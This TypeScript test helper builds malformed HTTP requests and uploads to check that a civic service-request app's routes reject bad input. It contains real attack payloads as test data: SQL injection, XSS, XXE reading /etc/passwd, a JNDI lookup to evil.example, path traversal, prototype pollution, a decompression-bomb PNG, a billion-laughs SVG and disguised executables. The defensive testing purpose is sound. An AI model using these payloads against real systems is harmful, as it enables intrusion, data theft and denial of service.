import { deflateSync } from 'node:zlib';

// The bad-input corpus: malformed requests generated from each route's own schema (the OpenAPI
// document the app serves), plus hand-made ones for the doors that write records (request
// submission, Open311 POST, photo uploads). Each case is one HTTP request and how its answer
// must look: 4xx, in the route's own error format.

export interface Case {
  name: string;
  method: string;
  url: string;
  headers?: Record<string, string>;
  payload?: string | Buffer;
  /** 'api' = { error: { code, message } } JSON; 'open311-json' / 'open311-xml' = Open311's errors. */
  format: 'api' | 'open311-json' | 'open311-xml' | 'html';
}

export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  maxLength?: number;
  minLength?: number;
  minimum?: number;
  maximum?: number;
  pattern?: string;
  format?: string;
  items?: JsonSchema;
  nullable?: boolean;
}

export const INJECTIONS = [
  "' OR '1'='1",
  "1; DROP TABLE requests; --",
  "1' UNION SELECT token FROM requests --",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  'nul\u0000byte',
];

const types = (s: JsonSchema): string[] => {
  if (s.anyOf) return s.anyOf.flatMap(types);
  const own = s.enum || s.const !== undefined ? ['enum'] : [s.type ?? 'any'].flat();
  return s.nullable ? [...own, 'null'] : own;
};

/** Values that the schema must refuse (never a value it accepts). */
export function wrongValues(s: JsonSchema): unknown[] {
  const t = new Set(types(s));
  const out: unknown[] = [];
  if (!t.has('string') && !t.has('any')) out.push('not-the-right-type', INJECTIONS[0]!, INJECTIONS[3]!);
  if (!t.has('number') && !t.has('integer') && !t.has('any')) out.push(12345, 1e308);
  if (!t.has('object') && !t.has('any')) out.push({ $gt: '' });
  if (!t.has('array') && !t.has('any')) out.push(['a', 'b']);
  if (!t.has('boolean') && !t.has('any') && !t.has('enum')) out.push(true);
  if (!t.has('null') && !t.has('any')) out.push(null);
  if (t.has('enum')) out.push('not-a-listed-value', INJECTIONS[1]!, '<script>x</script>');
  if (t.has('string') && s.maxLength !== undefined) out.push('x'.repeat(s.maxLength + 1));
  if (t.has('string') && (s.pattern || s.format)) out.push(INJECTIONS[1]!, INJECTIONS[2]!, INJECTIONS[5]!);
  if (t.has('integer')) out.push(1.5);
  if ((t.has('integer') || t.has('number')) && s.minimum !== undefined) out.push(s.minimum - 1);
  if ((t.has('integer') || t.has('number')) && s.maximum !== undefined) out.push(s.maximum + 1, 1e308);
  return out;
}

/** A query value the parameter must refuse (as text, since a query string is text). */
export function wrongQueryValues(s: JsonSchema): string[] {
  const t = new Set(types(s));
  const out: string[] = [];
  if (t.has('integer') || t.has('number')) out.push('abc', 'NaN', '1e400', '0x1G', INJECTIONS[0]!);
  if (t.has('integer')) out.push('1.5', '99999999999999999999999');
  if ((t.has('integer') || t.has('number')) && s.minimum !== undefined) out.push(String(s.minimum - 1));
  if ((t.has('integer') || t.has('number')) && s.maximum !== undefined) out.push(String(s.maximum + 1));
  if (t.has('enum')) out.push('nope', INJECTIONS[1]!, '<b>x</b>');
  if (t.has('string') && s.maxLength !== undefined) out.push('x'.repeat(s.maxLength + 1));
  if (t.has('string') && (s.pattern || s.format)) out.push(INJECTIONS[0]!, INJECTIONS[3]!);
  return [...new Set(out)].map(encodeURIComponent);
}

/** Path parameter values no route may take: overlong, traversal, NUL, SQL, numbers out of range. */
export const BAD_IDS = [
  'x'.repeat(400),
  '9'.repeat(40),
  '-1',
  '1e308',
  'NaN',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%5c..%5cwindows',
  '%00',
  '%27%20OR%20%271%27%3D%271',
  '%3Cscript%3E',
  '%FF%FE',
  '%E2%80%AE',
];

/** JSON that is not JSON, or not of the right kind, sent to any route that takes a body. */
export function badBodies(): Array<{ name: string; headers: Record<string, string>; payload: string | Buffer; wellFormed?: boolean; heavy?: boolean }> {
  const json = { 'content-type': 'application/json' };
  const deep = (n: number) => '['.repeat(n) + ']'.repeat(n);
  const deepObj = (n: number) => '{"a":'.repeat(n) + '1' + '}'.repeat(n);
  return [
    { name: 'truncated JSON', headers: json, payload: '{"serviceCode": "pothole", "description": "' },
    { name: 'NaN literal', headers: json, payload: '{"location": {"lat": NaN, "lng": Infinity}}' },
    { name: 'single quotes', headers: json, payload: "{'a': 1}" },
    { name: 'trailing comma', headers: json, payload: '{"a": 1,}' },
    { name: 'empty JSON body', headers: json, payload: '' },
    { name: 'JSON null', wellFormed: true, headers: json, payload: 'null' },
    { name: 'JSON array', wellFormed: true, headers: json, payload: '[1,2,3]' },
    { name: 'JSON string', wellFormed: true, headers: json, payload: '"hello"' },
    { name: 'JSON number', wellFormed: true, headers: json, payload: '42' },
    { name: '__proto__ pollution', headers: json, payload: '{"__proto__": {"admin": true}, "constructor": {"prototype": {"x": 1}}}' },
    { name: 'deeply nested arrays (100,000)', heavy: true, wellFormed: true, headers: json, payload: deep(100_000) },
    { name: 'deeply nested objects (20,000)', heavy: true, wellFormed: true, headers: json, payload: deepObj(20_000) },
    { name: 'non-UTF-8 bytes in JSON', headers: json, payload: Buffer.concat([Buffer.from('{"description": "caf'), Buffer.from([0xe9, 0xff, 0xfe]), Buffer.from('"}')]) },
    { name: 'UTF-16 BOM body', headers: json, payload: Buffer.from('\ufeff{"a":1}', 'utf16le') },
    { name: 'huge body (2 MiB)', heavy: true, headers: json, payload: `{"description": "${'A'.repeat(2 * 1024 * 1024)}"}` },
    { name: 'text/plain', headers: { 'content-type': 'text/plain' }, payload: 'serviceCode=pothole' },
    { name: 'XML with XXE', headers: { 'content-type': 'application/xml' }, payload: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' },
    { name: 'form body on a JSON route', headers: { 'content-type': 'application/x-www-form-urlencoded' }, payload: 'a=1&b=2' },
    { name: 'unknown content type', headers: { 'content-type': 'application/x-evil' }, payload: 'x' },
    { name: 'JSON with a wrong charset', headers: { 'content-type': 'application/json; charset=shift_jis' }, payload: '{"a":1}' },
  ];
}

// ---- images that lie, bombs, and file names that try to climb out ----

function crc32(buf: Buffer): number {
  let c = ~0;
  for (const b of buf) {
    c ^= b;
    for (let k = 0; k < 8; k++) c = c & 1 ? (c >>> 1) ^ 0xedb88320 : c >>> 1;
  }
  return ~c >>> 0;
}
function chunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(td));
  return Buffer.concat([len, td, crc]);
}
/** A valid PNG header claiming width × height, with a small compressed stream of zeros. */
export function pngDeclaring(width: number, height: number, rawBytes = 1024 * 1024): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // RGB
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(Buffer.alloc(rawBytes), { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export interface BadFile {
  name: string;
  filename: string;
  contentType: string;
  bytes: Buffer;
}

export function badFiles(realPng: Buffer, realJpeg: Buffer): BadFile[] {
  const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>');
  const html = Buffer.from('<!doctype html><script>alert(document.cookie)</script>');
  const billion = Buffer.from(
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><svg xmlns="http://www.w3.org/2000/svg">&lol3;</svg>',
  );
  const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(200)]);
  const zip = Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(100)]);
  return [
    { name: 'decompression bomb: PNG declaring 50000x50000', filename: 'bomb.png', contentType: 'image/png', bytes: pngDeclaring(50_000, 50_000) },
    { name: 'PNG declaring 100000x1', filename: 'wide.png', contentType: 'image/png', bytes: pngDeclaring(100_000, 1, 1000) },
    { name: 'PNG declaring 0x0', filename: 'zero.png', contentType: 'image/png', bytes: pngDeclaring(0, 0, 10) },
    { name: 'PNG whose data is cut short', filename: 'short.png', contentType: 'image/png', bytes: pngDeclaring(4000, 4000, 100) },
    { name: 'truncated JPEG', filename: 'cut.jpg', contentType: 'image/jpeg', bytes: realJpeg.subarray(0, Math.floor(realJpeg.length / 3)) },
    { name: 'PNG bytes that say image/jpeg', filename: 'photo.png', contentType: 'image/jpeg', bytes: realPng },
    { name: 'PNG bytes named .jpg', filename: 'photo.jpg', contentType: 'application/octet-stream', bytes: realPng },
    { name: 'HTML named .jpg', filename: 'cat.jpg', contentType: 'image/jpeg', bytes: html },
    { name: 'SVG with script', filename: 'x.svg', contentType: 'image/svg+xml', bytes: svg },
    { name: 'SVG billion laughs', filename: 'lol.svg', contentType: 'image/svg+xml', bytes: billion },
    { name: 'ELF executable as image/png', filename: 'a.png', contentType: 'image/png', bytes: elf },
    { name: 'ZIP as image/jpeg', filename: 'a.jpg', contentType: 'image/jpeg', bytes: zip },
    { name: 'empty file', filename: 'empty.jpg', contentType: 'image/jpeg', bytes: Buffer.alloc(0) },
    { name: 'text file', filename: 'notes.txt', contentType: 'text/plain', bytes: Buffer.from('hello') },
    { name: 'path traversal in the name, HTML inside', filename: '../../../../etc/passwd', contentType: 'image/png', bytes: html },
    { name: 'Windows traversal in the name, junk inside', filename: '..\\..\\..\\boot.ini', contentType: 'image/jpeg', bytes: Buffer.from('junk') },
    { name: 'NUL in the name, ELF inside', filename: 'a.jpg\u0000.exe', contentType: 'image/jpeg', bytes: elf },
    { name: 'JPEG bytes named .php', filename: 'shell.php', contentType: 'image/jpeg', bytes: realJpeg },
    { name: 'JPEG bytes declared text/html', filename: 'x.jpg', contentType: 'text/html', bytes: realJpeg },
    { name: 'photo over 10 MB', filename: 'big.jpg', contentType: 'image/jpeg', bytes: Buffer.concat([realJpeg, Buffer.alloc(10 * 1024 * 1024 + 10)]) },
  ];
}

/** A multipart/form-data body with fields and files, built by hand so broken ones can be sent. */
export function multipart(parts: Array<{ name: string; value?: string; file?: { filename: string; contentType: string; bytes: Buffer } }>) {
  const boundary = `----corpus${Math.random().toString(16).slice(2)}`;
  const chunks: Buffer[] = [];
  for (const p of parts) {
    if (p.file) {
      chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"; filename="${p.file.filename.replace(/"/g, '%22')}"\r\nContent-Type: ${p.file.contentType}\r\n\r\n`, 'utf8'));
      chunks.push(p.file.bytes, Buffer.from('\r\n'));
    } else {
      chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"\r\n\r\n${p.value ?? ''}\r\n`, 'utf8'));
    }
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { headers: { 'content-type': `multipart/form-data; boundary=${boundary}` }, payload: Buffer.concat(chunks) };
}
